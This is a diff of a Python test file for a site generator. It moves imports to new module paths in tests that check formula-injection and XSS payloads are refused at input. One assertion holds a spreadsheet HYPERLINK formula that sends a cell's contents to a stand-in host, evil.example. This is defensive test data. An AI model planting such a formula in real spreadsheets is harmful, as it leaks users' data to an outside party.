@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from generator.validation import validate_tree
+from generator.pipeline.validate import validate_tree
 from tests.conftest import build
 from tests.oracle import read_csv
 from tests.pages import soup
@@ -23,7 +23,7 @@ CORPUS = [line for line in (Path(__file__).parent / "fixtures" / "xss_payloads.t
 
 def refused_at_input(text: str) -> bool:
     """A cell that is an Excel formula (=HYPERLINK(…)) is refused before anything is built."""
-    from generator.text_checks import TextProblem, check_text
+    from generator.input.text_checks import TextProblem, check_text
 
     try:
         check_text(text)
@@ -45,7 +45,7 @@ def test_corpus_is_large_enough():
 
 
 def test_formula_payloads_are_refused_at_input_with_a_message():
-    from generator.text_checks import TextProblem, check_text
+    from generator.input.text_checks import TextProblem, check_text
 
     refused = [p for p in CORPUS if refused_at_input(p)]
     assert refused == ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")']
